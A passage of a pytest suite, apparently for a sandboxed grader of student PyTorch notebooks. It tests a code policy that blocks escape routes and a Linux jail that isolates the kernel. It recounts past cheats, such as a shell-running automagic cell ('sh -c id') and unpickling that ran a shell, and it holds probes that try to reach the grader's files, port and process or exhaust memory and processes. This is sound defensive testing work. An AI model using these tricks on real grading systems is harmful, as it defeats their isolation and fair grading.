        relative = "/".join(parts) + ".py"
        unnamed += [f"{relative}:{name}" for name in dir(module)
                    if callable(getattr(module, name, None)) and _registers(name, relative)]
    assert sorted(set(unnamed)) == [], ("refuse a name of each in ptgrader.policy.FORBIDDEN_TORCH_PARTS, or allow it"
                                        f" here: {sorted(set(unnamed))}")


#: Public getters of state a module keeps (``test_policy_names_every_getter_of_kept_state``) the policy allows, and why.
_GETTERS_ALLOWED = {
    "torch/__init__.py:get_default_device": "a device: a constant",
    "torch/backends/mha/__init__.py:get_fastpath_enabled": "a bool",
    "torch/compiler/__init__.py:is_compiling": "a bool",
    "torch/compiler/__init__.py:is_exporting": "a bool",
    "torch/cpu/__init__.py:current_stream": "the CPU's one Stream, whose attributes no cell can set (setattr refused, "
                                            "and an attribute of a call's result cannot be assigned)",
    "torch/cuda/__init__.py:device_count": "an int",
    "torch/xpu/__init__.py:device_count": "an int",
    "torch/mps/__init__.py:get_rng_state": "a new tensor holding the generator's state",
    "torch/nn/modules/module.py:register_module_": "a handle that removes one hook; hooks on every module are counted "
                                                   "in each graded test cell (ptchecks.left_hooks)",
}


def test_policy_names_every_getter_of_kept_state() -> None:
    """Read the modules a solution may import (torch's public ones, and the standard library's that have sources):
    every public function that returns what a module keeps in a private global, itself or through a private
    function of torch that does, is refused by a name or allowed above with a reason. Round 128 kept a helper with a
    loop in typing's overload registry (``@typing.overload``) and in torch's safe globals, and called it as
    ``typing.get_overloads(math.floor)[-1](...)``: a function the reading pins, handing back what any cell put there."""
    modules = [module for name in sorted(policy.ALLOWED_IMPORTS - {"torch"})
               if (module := importlib.import_module(name)).__spec__.origin.endswith(".py")]
    sources = [(module.__name__, ast.parse(Path(module.__spec__.origin).read_text(encoding="utf-8"))) for module in modules]
    sources += list(_public_torch_trees().items())
    public = [(label, tree, node) for label, tree in sources for node in tree.body
              if isinstance(node, ast.FunctionDef) and not node.name.startswith("_")]
    called = {name for _, _, node in public for inner in ast.walk(node) if isinstance(inner, ast.Return) and inner.value
              for call in ast.walk(inner.value) if isinstance(call, ast.Call)
              and (name := _last_name(call.func)) and name.startswith("_")}
    getters = _private_getters(called)
    kept = {f"{label}:{node.name}": {node.name, *label.removesuffix(".py").split("/")} for label, tree, node in public
            if _returns_kept_state(node, _private_globals(tree), getters)}
    assert {"typing:get_overloads", "torch/serialization.py:get_safe_globals"} <= set(kept)  # round 128's are read
    unnamed = [name for name, parts in kept.items() if not parts & FORBIDDEN_ATTRIBUTES
               and not any(name.startswith(allowed) for allowed in _GETTERS_ALLOWED)]
    assert unnamed == [], f"refuse a name of each in ptgrader.policy.HANDS_BACK_STORED, or allow it here: {unnamed}"


def test_every_container_a_library_holds_is_named() -> None:
    """Read torch's public modules and the standard library's a solution may import: every public name that a module
    or a class body binds to a container (a dict, list or set), and every such attribute of the modules imported and
    of the classes they hold (those of private modules they re-export included), is in ``LIBRARY_CONTAINERS``. Round
    129 filled ``torch.distributions.Normal.arg_constraints`` and read it through an object of the class; round 130 read
    ``torch.nn.functional.tf32_notes`` through the module ``torch.get_device_module("cpu").torch``: no reading
    resolves such a base, so the names are what the reading knows."""
    sources = [ast.parse(Path(module.__spec__.origin).read_text(encoding="utf-8"))
               for name in sorted(policy.ALLOWED_IMPORTS - {"torch"})
               if (module := importlib.import_module(name)).__spec__.origin.endswith(".py")]
    written = {name for tree in [*sources, *_public_torch_trees().values()] for name in _containers_bound(tree)}
    for heavy in ("torch.distributions", "torch.export", "torch.fx", "torch.profiler", "torch.utils.benchmark"):
        importlib.import_module(heavy)  # what a graded kernel may import, whatever ran before in this worker
    modules = [module for module_name, module in list(sys.modules.items())
               if module is not None and module_name.split(".")[0] in policy.ALLOWED_IMPORTS
               and not any(part.startswith("_") for part in module_name.split("."))]
    holders = [*modules, *(value for module in modules for value in list(vars(module).values()) if isinstance(value, type))]
    held = {name for holder in holders for name, value in list(vars(holder).items()) if not name.startswith("_")
            and isinstance(value, (collections.abc.MutableMapping, collections.abc.MutableSequence,
                                   collections.abc.MutableSet))}
    assert "arg_constraints" in written & held and "tf32_notes" in held  # rounds 129 and 130's
    missing = sorted((written | held) - LIBRARY_CONTAINERS)
    assert missing == [], f"add these to ptgrader.library_containers.LIBRARY_CONTAINERS: {missing}"
    common = {name for kind in (torch.Tensor, torch.nn.Module, torch.optim.Optimizer, dict, list) for name in dir(kind)}
    assert sorted(LIBRARY_CONTAINERS & common) == []  # an honest answer's attributes stay pinned


#: Calls that make an empty or filled container (``cache = {}`` or ``cache = dict()``).
_CONTAINER_MAKERS = frozenset({"dict", "list", "set", "defaultdict", "OrderedDict", "deque", "Counter",
                               "WeakValueDictionary", "WeakKeyDictionary", "WeakSet"})


def _containers_bound(tree: ast.Module) -> set[str]:
    """The public names that the top of ``tree``, or a class body in it, binds to a container display or a container
    made by a call."""
    found = set()
    bodies = [tree.body, *(node.body for node in ast.walk(tree) if isinstance(node, ast.ClassDef))]
    for item in (item for body in bodies for item in body):
        value = item.value if isinstance(item, (ast.Assign, ast.AnnAssign)) else None
        made = isinstance(value, ast.Call) and _last_name(value.func) in _CONTAINER_MAKERS
        if made or isinstance(value, (ast.Dict, ast.List, ast.Set, ast.DictComp, ast.ListComp, ast.SetComp)):
            targets = item.targets if isinstance(item, ast.Assign) else [item.target]
            found |= {target.id for target in targets if isinstance(target, ast.Name) and not target.id.startswith("_")}
    return found


def test_policy_names_every_torch_function_that_hands_out_a_module() -> None:
    """Read torch's public modules: every public function that returns a module (``getattr`` of a module, an
    ``import_module``, or an attribute chain that resolves to one, directly or through a local) is refused by a name.
    Round 130 started a chain at ``torch.get_device_module("cpu")`` and reached Python's ``open`` and a dict of torch's
    that no reading resolved."""
    found = []
    for relative, tree in _public_torch_trees().items():
        imported = _imported_modules(tree)
        for function in tree.body:
            if isinstance(function, ast.FunctionDef) and not function.name.startswith("_"):
                if any(_hands_out_a_module(value, imported) for value in _returned(function)):
                    found.append((relative, function.name))
    assert ("torch/__init__.py", "get_device_module") in found  # round 130's
    unnamed = [f"{relative}:{name}" for relative, name in found
               if name not in FORBIDDEN_ATTRIBUTES and not set(relative.removesuffix(".py").split("/")) & FORBIDDEN_ATTRIBUTES]
    assert unnamed == [], f"refuse a name of each in ptgrader.policy.HANDS_OUT_MODULES: {unnamed}"


def _imported_modules(tree: ast.Module) -> dict[str, str]:
    """Name -> module (or ``module.name``) of each import at the top of ``tree``."""
    found = {}
    for node in tree.body:
        if isinstance(node, ast.Import):
            found |= {alias.asname or alias.name.split(".")[0]: alias.name if alias.asname else alias.name.split(".")[0]
                      for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            found |= {alias.asname or alias.name: f"{node.module}.{alias.name}" for alias in node.names}
    return found


def _returned(function: ast.FunctionDef) -> list[ast.expr]:
    """What ``function`` returns, a local name replaced by the value it was bound to."""
    local = {node.targets[0].id: node.value for node in ast.walk(function)
             if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name)}
    values = [node.value for node in ast.walk(function) if isinstance(node, ast.Return) and node.value is not None]
    return [local.get(value.id, value) if isinstance(value, ast.Name) else value for value in values]


def _hands_out_a_module(value: ast.expr, imported: dict[str, str]) -> bool:
    """Whether ``value`` is ``getattr`` of an imported module, an ``import_module``, or a chain of attributes from an
    imported module that ends at a module (the installed modules, imported)."""
    if isinstance(value, ast.Call):
        named = _last_name(value.func)
        return named in ("import_module", "__import__") or (
            named == "getattr" and bool(value.args) and isinstance(value.args[0], ast.Name)
            and value.args[0].id in imported)
    head, *path = ast.unparse(value).split(".") if isinstance(value, ast.Attribute) else ("",)
    if head not in imported or not path or not all(part.isidentifier() for part in path):
        return False
    try:
        found = functools.reduce(getattr, path, importlib.import_module(imported[head]))
    except (ImportError, AttributeError):
        return False
    return isinstance(found, type(torch))


@functools.cache
def _public_torch_trees() -> dict[str, ast.Module]:
    """Path relative to site-packages -> syntax tree, of every public module of the installed torch (read once)."""
    return {relative: ast.parse(path.read_text(encoding="utf-8", errors="replace"))
            for path, relative, _ in _public_torch_files()}


def _private_getters(names: set[str]) -> set[str]:
    """Those of ``names``, private functions of torch's, that some module of torch defines to return what it keeps
    in a private global (only the files that define one are parsed: all of torch takes seconds more)."""
    if not names:
        return set()
    definition = re.compile(rf"^def ({'|'.join(map(re.escape, sorted(names)))})\(", re.MULTILINE)
    found = set()
    for path in sorted(Path(torch.__file__).parent.rglob("*.py")):
        text = path.read_text(encoding="utf-8", errors="replace")
        if definition.search(text):
            tree = ast.parse(text)
            found |= {node.name for node in tree.body if isinstance(node, ast.FunctionDef) and node.name in names
                      and _returns_kept_state(node, _private_globals(tree), set())}
    return found


def _private_globals(tree: ast.Module) -> set[str]:
    """The private names (``_registry``, not ``__all__``) a module binds at its top."""
    return {target.id for node in tree.body if isinstance(node, (ast.Assign, ast.AnnAssign))
            for target in (node.targets if isinstance(node, ast.Assign) else [node.target])
            if isinstance(target, ast.Name) and target.id.startswith("_") and not target.id.startswith("__")}


def _returns_kept_state(function: ast.FunctionDef, kept: set[str], getters: set[str]) -> bool:
    """Whether ``function`` returns one of the globals ``kept``, or what it holds (``list(_registry[key].values())``,
    through a local bound to it), or what a call of one of ``getters`` returns."""
    local = {node.targets[0].id: node.value for node in ast.walk(function)
             if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name)}
    for node in ast.walk(function):
        if isinstance(node, ast.Return) and node.value is not None:
            held = _held_from(node.value)
            if held in kept or held in local and _held_from(local[held]) in kept:
                return True
            if any(isinstance(call, ast.Call) and _last_name(call.func) in getters for call in ast.walk(node.value)):
                return True
    return False


def _held_from(value: ast.expr) -> str | None:
    """The name a value is read from: ``_registry`` for ``_registry[k]``, ``list(_registry)``, ``_registry.get(k)``."""
    while isinstance(value, (ast.Attribute, ast.Subscript, ast.Call)):
        if isinstance(value, ast.Call):
            value = value.args[0] if isinstance(value.func, ast.Name) and value.args else value.func
        else:
            value = value.value
    return value.id if isinstance(value, ast.Name) else None


def _last_name(function: ast.expr) -> str | None:
    """``f`` of ``f(...)`` or ``module.f(...)``."""
    return function.attr if isinstance(function, ast.Attribute) else getattr(function, "id", None)


#: A name that registers (not one that unregisters); private names are refused by the policy already.
_REGISTERS = re.compile(r"(?<!un)(?<!de)register", re.IGNORECASE)


def _registers(name: str, relative: str) -> bool:
    """Whether ``name`` (``f`` or ``Class.f``) of the module at ``relative`` registers something, and is neither
    refused by the policy nor allowed in :data:`_REGISTRATIONS_ALLOWED`."""
    own = name.split(".")
    return (_REGISTERS.search(own[-1]) is not None and not any(part.startswith("_") for part in own)
            and not set(own) & FORBIDDEN_ATTRIBUTES
            and not any(f"{relative}:{name}".startswith(allowed) for allowed in _REGISTRATIONS_ALLOWED))


def _writers_named(path: Path) -> bool:
    """Whether every public function or method of ``path`` that starts or writes is refused by its own name
    or its class's (a module the policy allows, as torch.profiler, may hold a few such functions)."""
    text = path.read_text(encoding="utf-8", errors="replace")
    writers = []
    for node in ast.parse(text).body:
        if isinstance(node, ast.FunctionDef):
            writers.append((node.name, node, ""))
        elif isinstance(node, ast.ClassDef):
            writers += [(item.name, item, node.name) for item in node.body if isinstance(item, ast.FunctionDef)]
    found = [(name, owner) for name, node, owner in writers
             if _STARTS_OR_WRITES.search(ast.get_source_segment(text, node) or "")]
    return bool(found) and all(name in FORBIDDEN_ATTRIBUTES or owner in FORBIDDEN_ATTRIBUTES for name, owner in found)


#: Unpickling: the function's own code, or what it reaches in a private module it calls.
_UNPICKLES = re.compile(r"\bpickle\.loads?\(|Unpickler\b|\bpickle_load\b")  # subclasses: AOTCompileUnpickler

#: Public torch functions that unpickle, itself or through a private module they call, and are allowed: why.
_UNPICKLES_ALLOWED = {
    "torch/utils/benchmark/examples/compare.py:main": "loads only the pickles it has just made itself",
    "torch/utils/data/dataloader.py:DataLoader.check_worker_number_rationality":
        "reaches torch._utils for the CPU count; nothing it unpickles comes from the caller",
}


def _private_modules_called(function: ast.FunctionDef) -> set[str]:
    """The private torch modules a function's body imports from or names (``torch._dynamo.x``: torch._dynamo)."""
    found = set()
    for node in ast.walk(function):
        if isinstance(node, ast.ImportFrom) and node.module and any(p.startswith("_") for p in node.module.split(".")):
            found.add(node.module)
        elif isinstance(node, ast.Attribute) and ast.unparse(node).startswith("torch._"):
            found.add(".".join(ast.unparse(node).split(".")[:2]))
    return found


def _private_modules_that_unpickle(root: Path) -> frozenset[str]:
    """The private torch modules (``torch._dynamo.aot_compile``; a package by its ``__init__``) that unpickle."""
    found = set()
    for path in root.rglob("*.py"):
        dotted = path.relative_to(root.parent).as_posix().removesuffix(".py").removesuffix("/__init__").replace("/", ".")
        if "._" in dotted and _UNPICKLES.search(path.read_text(encoding="utf-8", errors="replace")):
            found.add(dotted)
    return frozenset(found)


def test_policy_names_every_torch_function_that_unpickles() -> None:
    """Read the installed torch: a public function that unpickles, in its own code or in a private module it
    calls, runs whatever its bytes say (torch.compiler.load_compiled_function ran a shell for a cell the policy
    accepted). Each is refused by a name (its module's path, its class or its own), or allowed above."""
    root = Path(torch.__file__).parent
    unpickling = _private_modules_that_unpickle(root)
    unnamed = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root.parent).as_posix()
        parts = relative.removesuffix(".py").removesuffix("/__init__").split("/")
        if any(part.startswith("_") for part in parts) or parts[1:2] in (["testing"], ["test"], ["include"]):
            continue
        if set(parts) & FORBIDDEN_ATTRIBUTES:
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if not _UNPICKLES.search(text) and not any(module in text for module in unpickling):
            continue  # nothing here unpickles, nor names a private module that does
        for node in ast.parse(text).body:
            members = [(node, "")] if isinstance(node, ast.FunctionDef) else [
                (item, node.name) for item in getattr(node, "body", []) if isinstance(item, ast.FunctionDef)
            ] if isinstance(node, ast.ClassDef) else []
            for function, owner in members:
                name = f"{owner}.{function.name}" if owner else function.name
                if function.name.startswith("_") or owner.startswith("_") or {function.name, owner} & FORBIDDEN_ATTRIBUTES:
                    continue
                if f"{relative}:{name}" in _UNPICKLES_ALLOWED:
                    continue
                if _UNPICKLES.search(ast.get_source_segment(text, function) or "") or (
                        _private_modules_called(function) & unpickling):
                    unnamed.append(f"{relative}:{name}")
    assert unnamed == [], f"refuse a name of each in ptgrader.policy.FORBIDDEN_TORCH_PARTS, or allow it here: {unnamed}"


@pytest.mark.parametrize("lab", lab_tools.lab_names())
def test_policy_lets_every_solution_and_wrong_answer_through(lab: str) -> None:
    """A wrong answer must lose its points, not be withheld, and a correct alternative keep them: the policy may
    refuse no honest code of a lab."""
    setup, names, nb = _lab_policy(lab)
    sources = {f"solution {k}": v for k, v in lab_tools.solution_sources(nb).items()}
    sources |= {f"fixture {f.path.name}": f.source() for f in lab_tools.fixtures(lab) + lab_tools.alternatives(lab)}
    refused = {name: [str(f) for f in scan_cell(s, 3, setup, lab=names)] for name, s in sources.items()}
    assert not {name: found for name, found in refused.items() if found}


@pytest.mark.parametrize("cheat", hostile.cheat_names())
def test_policy_refuses_every_hostile_cheat(cheat: str) -> None:
    setup, names, _ = _lab_policy(lab_tools.lab_names()[0])
    assert scan_cell(hostile.cheat_source(cheat), 3, setup, lab=names), f"{cheat} gets past the code policy"


def test_lab_names_follow_python_scopes() -> None:
    """Only notebook globals count: a comprehension's or a function's own names are not the set-up's."""
    names = LabNames.of(
        {"setup": "device = 1\n[h for h in range(3)]\ndef given(x):\n    y = x\n    return y",
         "test_a": "expected = given(device)\ndef helper(z):\n    return z + h2"},
        {"test_a"},
    )
    assert names.setup == {"device", "given"}
    assert names.tests_read == {"given", "device", "h2"}
    assert names.guarded >= {"device", "given"} and "h" not in names.guarded
    assert {"expected", "helper"} <= names.locked


def test_a_submodule_imported_by_a_locked_cell_binds_only_its_package() -> None:
    """`import torch.distributed` in a locked cell binds `torch` to torch, not to torch.distributed: the name
    `torch` stays usable in student cells, while `dist` (an alias of the forbidden part) stays banned."""
    setup = setup_module_names(["import torch.distributed\nimport torch.distributed as dist\nimport os.path"])
    assert setup == {"torch": "torch", "dist": "torch.distributed", "os": "os"}
    assert scan_cell("y = torch.ones(2)", 3, setup) == []
    assert any("dist" in str(f) for f in scan_cell("dist.all_reduce(t)", 3, setup))
    assert any("os" in str(f) for f in scan_cell("os.getcwd()", 3, setup))


#: Reads a one-line cell the way a kernel started with ``settings`` does, for every magic and alias name; prints
#: the lines where that differs from what the code policy reads (``as_python``).
_READ_AS_A_KERNEL = """
import json, sys
from IPython.core.interactiveshell import InteractiveShell
from traitlets.config.loader import KVArgParseConfigLoader
from ptgrader.ipython_code import as_python

shell = InteractiveShell.instance(config=KVArgParseConfigLoader(argv=json.loads(sys.argv[1])).load_config())
names = [*shell.magics_manager.lsmagic()["line"], *(name for name, _ in shell.alias_manager.aliases)]
lines = [f'{name} /"";x' for name in names] + ['len "x"', 'abs -1']
print(json.dumps([line for line in lines if shell.transform_cell(line).strip() != as_python(line).strip()]))
"""


@pytest.mark.parametrize("settings", ["grading", "default"])
def test_a_grading_kernel_reads_a_one_line_cell_as_the_policy_does(settings: str) -> None:
    """IPython reads a one-line cell again in the kernel: automagic ran ``sx /"";sh -"c" "id"`` (a division to
    the policy) as a shell command, for full marks. With the grading kernels' settings every magic's and
    alias's name, and autocall, read as plain Python; with IPython's defaults they do not (the check can fail)."""
    argv = list(SHELL_SETTINGS) if settings == "grading" else []
    found = subprocess.run([sys.executable, "-c", _READ_AS_A_KERNEL, json.dumps(argv)], capture_output=True,
                           text=True, timeout=120)
    assert found.returncode == 0, found.stderr[-2000:]
    differ = json.loads(found.stdout)
    if settings == "grading":
        assert differ == []
    else:
        assert 'sx /"";x' in differ and 'len "x"' not in differ, differ  # automagic on, autocall off by default


#: A grader's process, with torch imported already (argv[1] "torch") or not: its reading of one chain is stopped by a
#: budget far too short for the imports the chain needs, twice (inside ``import torch`` or of a submodule, then
#: wherever the second stop lands), then read with a budget that suffices.
_STOPPED_INSIDE_AN_IMPORT = """
import json, sys
if sys.argv[1] == "torch":
    import torch
from ptgrader.policy import scan_cell
from ptgrader.reading_budget import ReadingTooLong, cpu_budget
assert "torch.utils.benchmark" not in sys.modules
cell = "import torch\\nz = torch.utils.benchmark.utils.common.time\\n"
stops = []
for _ in range(2):
    try:
        with cpu_budget(0.005):  # far below the imports (0.05 s, the old budget, let a fast host finish them)
            stops.append([str(finding) for finding in scan_cell(cell, 0, {})])
    except ReadingTooLong:
        stops.append("stopped")
with cpu_budget(120):
    findings = [str(finding) for finding in scan_cell(cell, 0, {})]
print(json.dumps({"stops": stops, "findings": findings}))
"""


@pytest.mark.parametrize("imported", ["nothing", "torch"])
def test_the_reading_budget_never_stops_an_import_halfway_or_is_swallowed(imported: str) -> None:
    """Round 56: the policy imports the modules a chain names (torch, then ``torch._dynamo``, loaded on first use;
    since round 57 no private module, and every public submodule on disk, here ``torch.utils.benchmark``).
    The budget's stop raised inside ``import torch`` left a partly initialised torch, and the next student ended
    unprocessed (here the process crashes); raised inside the lazy ``_dynamo`` import, an ``except Exception`` took
    it for a failed attribute, the chain was cached as reaching nothing, and the reading went on unbounded. Now an
    import runs to its end and the stop comes after it, and the same process reads the chain to the module it
    reaches afterwards."""
    found = subprocess.run([sys.executable, "-c", _STOPPED_INSIDE_AN_IMPORT, imported], capture_output=True,
                           text=True, timeout=300)
    assert found.returncode == 0, found.stderr[-3000:]
    result = json.loads(found.stdout)
    first, second = result["stops"]
    assert first == "stopped", result  # the imports cost more than the budget: it is spent once they end
    for findings in (second, result["findings"]):  # stopped again, or read in full: never a chain cut short
        assert findings == "stopped" or any("reaches the module time" in f for f in findings), result


#: A grader's process that imported torch alone: chains through submodules that only a warm kernel (which preloads
#: more of torch) or the student's own import would have loaded.
_READ_IN_A_FRESH_GRADER = """
import json, sys
import torch
from ptgrader.policy import scan_cell
assert "torch.utils.benchmark" not in sys.modules and "torch.nn.utils.prune" not in sys.modules
chains = sys.argv[1:]
print(json.dumps({chain: [str(f) for f in scan_cell(f"import torch\\nz = {chain}\\n", 0, {})] for chain in chains}))
"""


def test_policy_reads_a_chain_the_same_whatever_the_grader_has_loaded() -> None:
    """Round 57: the policy walked only the modules loaded in the grader's own process, and the warm kernels preload
    more of torch, which attaches submodules to their parents: ``torch.utils.benchmark.utils.common.time`` (the
    time module) and a forbidden ``valgrind_wrapper`` ran unflagged. Now a submodule on disk is loaded as the
    kernel may have, and the findings are the same in a grader that never imported it."""
    reached = {
        "torch.utils.benchmark.utils.common.time": "reaches the module time",
        "torch.utils.benchmark.utils.timer.valgrind_timer_interface": "valgrind_wrapper.timer_interface",
        "torch.utils.flop_counter.aten": "reaches the module torch.ops.aten",
        "torch.nn.utils.prune.numbers": "reaches the module numbers",
    }
    honest = ["torch.utils.data.DataLoader", "torch.nn.functional.relu", "torch.nn.utils.prune.l1_unstructured"]
    found = subprocess.run([sys.executable, "-c", _READ_IN_A_FRESH_GRADER, *reached, *honest], capture_output=True,
                           text=True, timeout=300)
    assert found.returncode == 0, found.stderr[-3000:]
    findings = json.loads(found.stdout)
    for chain, evidence in reached.items():
        assert any(evidence in finding for finding in findings[chain]), (chain, findings[chain])
    assert all(findings[chain] == [] for chain in honest), findings


def test_policy_leaves_code_that_does_not_parse_to_the_kernel() -> None:
    assert scan_cell("def broken(:\n", 0, SETUP) == []


# -------------------------------------------------------------------------------------- the jail


def _jail_spec(tmp_path: Path, course: Path, **changes: object) -> tuple[jail.JailSpec, Path]:
    folder = tmp_path / "kernel"
    folder.mkdir(mode=0o700)
    spec = Isolation(str(course)).spec(folder, dict(os.environ))
    spec.connection_file = ""
    for key, value in changes.items():
        setattr(spec, key, value)
    path = folder / "spec.json"
    path.write_text(spec.to_json())
    return spec, path


def _jailed(spec_path: Path, code: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Run ``python -c code`` as a cold kernel's keeper runs ipykernel; the kernel's output comes on stderr."""
    command = [sys.executable, "-I", "-S", jail.__file__, str(spec_path), "--", sys.executable, "-c", code]
    try:
        return subprocess.run(command, capture_output=True, text=True, timeout=timeout)
    finally:
        assert cgroups.remove(jail.JailSpec.from_json(spec_path.read_text()).cgroups)


SEE_AND_TOUCH = r"""
import json, os, resource, socket, sys
def writable(path):  # opens for writing, writes nothing, removes what it created
    existed = os.path.exists(path)
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600))
    except OSError as e:
        return e.strerror
    if not existed:
        os.unlink(path)
    return "yes"
def reads(path):  # a folder's entry count, a file's first bytes' count, or why it cannot be read
    try:
        if os.path.isdir(path):
            return len(os.listdir(path))
        with open(path, "rb") as f:
            return len(f.read(4096))
    except OSError as e:
        return e.strerror
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
mounts = {}  # mount point -> "rw" or "ro", the topmost mount's
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    mounts[fields[4]] = "ro" if "ro" in fields[5].split(",") else "rw"
try:
    probe = socket.socket()
    probe.connect(("127.0.0.1", int(sys.argv[1]) if len(sys.argv) > 1 else PORT))
    network = "reached the grader's port"
except OSError as e:
    network = e.strerror
try:
    os.kill(GRADER, 0)
    signal_grader = "delivered"
except OSError as e:
    signal_grader = e.strerror
print(json.dumps({
    "uid": os.getuid(), "groups": os.getgroups(), "pid": os.getpid(),
    "processes": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
    "cwd": os.getcwd(), "home": os.environ["HOME"],
    "sees": {p: os.path.exists(p) for p in PATHS},
    "write": {p: writable(p) for p in WRITES},
    "caps": status["CapEff"].strip(), "no_new_privs": status["NoNewPrivs"].strip(),
    "limits": {n: resource.getrlimit(getattr(resource, "RLIMIT_" + n))[0] for n in ("AS", "NPROC", "FSIZE", "CORE")},
    "network": network, "signal_grader": signal_grader, "bytecode": sys.dont_write_bytecode,
    "writable_mounts": sorted(point for point, mode in mounts.items() if mode == "rw"),
    "proc": {name: reads("/proc/" + name) for name in os.listdir("/proc") if not name.isdigit()},
}))
"""


@linux_only
@pytest.mark.parametrize("user", ["dedicated uid", "user namespace"])
def test_a_jailed_kernel_sees_only_itself_and_writes_only_its_own_folders(tmp_path: Path, user: str) -> None:
    """As root the kernel gets a uid of its own; a grader that is not root jails it in a user namespace
    (tried here as root too: the same code path, mapping uid 1000 inside to this process's uid outside)."""
    course = tmp_path / "course"
    course.mkdir()
    (course / "gradebook.db").write_text("grades")
    (tmp_path / "secret").write_text("the grader's file")
    ptlabs_folder = Path(__import__("ptlabs").__file__).parent
    listener = socket.create_server(("127.0.0.1", 0))  # a port on the grader's loopback
    userns = {"userns": True, "uid": 1000, "gid": 1000} if user == "user namespace" else {}
    spec, path = _jail_spec(tmp_path, course, **userns)
    code = (
        SEE_AND_TOUCH.replace("PORT", str(listener.getsockname()[1])).replace("GRADER", str(os.getpid()))
        .replace("PATHS", repr([str(course / "gradebook.db"), str(tmp_path / "secret"), str(ptlabs_folder),
                                str(Path.home() / ".bashrc"), "/etc/hostname"]))
        .replace("WRITES", repr([str(ptlabs_folder / "jail-probe.py"), str(ptlabs_folder / "checks.py"), "/etc/x", "/x",
                                 jail.HOME + "/x", jail.WORK + "/x", "/tmp/x", "/dev/shm/x"]))
    )
    result = _jailed(path, code)
    listener.close()
    assert result.returncode == 0, result.stderr
    seen = json.loads(jail_tools.kernel_lines(result.stderr)[-1])
    assert seen["uid"] not in (0, os.getuid()) and set(seen["groups"]) <= {65534}, seen  # 65534: not mapped
    assert seen["pid"] == 1 and seen["processes"] == [1], seen  # its own PID namespace: nothing else in sight
    assert (seen["cwd"], seen["home"]) == (jail.WORK, jail.HOME)
    assert seen["sees"] == {str(course / "gradebook.db"): False, str(tmp_path / "secret"): False,
                            str(ptlabs_folder): True, str(Path.home() / ".bashrc"): False, "/etc/hostname": True}
    writes = seen["write"]
    assert all(writes[p] == "yes" for p in (jail.HOME + "/x", jail.WORK + "/x", "/tmp/x", "/dev/shm/x")), writes
    assert all(writes[p] in ("Read-only file system", "Permission denied") for p in list(writes)[:4]), writes
    assert seen["caps"] == "0000000000000000" and seen["no_new_privs"] == "1"
    # every other mount read-only, those a recursive bind brings below a folder too (/sys/fs/cgroup's groups)
    assert set(seen["writable_mounts"]) <= {*jail.WRITABLE, *jail.DEVICES, "/proc"}, seen["writable_mounts"]
    # no TCP socket at all (the system call filter); its network namespace holds only a loopback device besides
    assert seen["network"] == "Address family not supported by protocol", seen["network"]
    assert seen["signal_grader"] == "No such process"  # the grader is not in the kernel's PID namespace
    assert seen["bytecode"] is True
    # /proc's top folder: what torch and psutil read, and nothing else (round 81: /proc/locks, read in a loop,
    # stalled every file lock of the machine); hidden entries read as empty or not at all
    proc = seen["proc"]
    hidden = {name: found for name, found in proc.items() if name not in jail.PROC_VISIBLE}
    assert "locks" in hidden and all(found in (0, "Permission denied") for found in hidden.values()), proc
    assert all(proc[name] for name in ("cpuinfo", "meminfo", "stat", "self", "sys")), proc
    limits = default_limits()
    assert seen["limits"] == {"AS": limits["address_space"], "NPROC": limits["processes"],
                              "FSIZE": limits["file_size"], "CORE": 1}
    if userns:
        assert seen["uid"] == 1000


EXHAUST = r"""
import os, time
try:
    bytearray(8 << 30)
    memory = "allocated"
except MemoryError:
    memory = "refused"
children = 0
try:
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as e:
    forks = e.strerror
try:
    with open("/tmp/big", "wb") as f:
        f.write(b"0" * (4 << 20))
    file = "written"
except OSError as e:
    file = e.strerror
print(memory, children, file, flush=True)
"""


@linux_only
def test_a_jailed_kernel_cannot_take_the_machine(tmp_path: Path) -> None:
    """Class 5 of issue 21: 8 GiB, hundreds of processes, big files are refused by the rlimits."""
    limits = {**default_limits(), "processes": 20, "file_size": 1 << 20}
    _, path = _jail_spec(tmp_path, tmp_path, limits=limits)
    result = _jailed(path, EXHAUST)
    memory, children, file = jail_tools.kernel_lines(result.stderr)[-1].split(" ", 2)
    assert memory == "refused"
    assert 0 < int(children) < 20
    assert file == "File too large"


@linux_only
@pytest.mark.skipif(cgroups.Hierarchy.find() is None, reason="no control group can be made here (needs root)")
def test_the_memory_of_all_of_a_kernels_processes_is_limited_together(tmp_path: Path) -> None:
    """The rlimits hold per process; the kernel's control group holds for its whole tree: two children that
    each stay under the address-space limit cannot take more memory together than the group allows."""
    isolation = Isolation(str(tmp_path), memory_bytes=256 << 20)
    folder = tmp_path / "kernel"
    folder.mkdir(mode=0o700)
    spec = isolation.spec(folder, dict(os.environ))
    spec.connection_file = ""
    (folder / "spec.json").write_text(spec.to_json())
    code = (
        "import os, time\n"
        "children = []\n"
        "for _ in range(2):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        hoard = b'x' * (200 << 20)  # 200 MiB each, written: resident\n"
        "        time.sleep(5)\n"
        "        os._exit(0)\n"
        "    children.append(pid)\n"
        "print('children killed:', sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == -9 for p in children),"
        " flush=True)\n"
    )
    result = _jailed(folder / "spec.json", code)
    assert "children killed: 1" in result.stderr or "children killed: 2" in result.stderr, result.stderr


@linux_only
@pytest.mark.skipif(not getattr(cgroups.Hierarchy.find(), "cpu", False), reason="no cpu controller for kernels here")
def test_each_kernel_shares_the_cores_as_one_group(tmp_path: Path) -> None:
    """Where the cpu controller is there, a kernel and its threads are in a CPU group of their own, whose weight is
    every other kernel's: a hundred busy threads get no more of the cores than one."""
    hierarchy = Isolation(str(tmp_path)).hierarchy  # as prepared: without cpu where it cannot be used
    if hierarchy is None or not hierarchy.cpu:
        pytest.skip("the cpu controller cannot be used for kernels here")
    spec, path = _jail_spec(tmp_path, tmp_path)
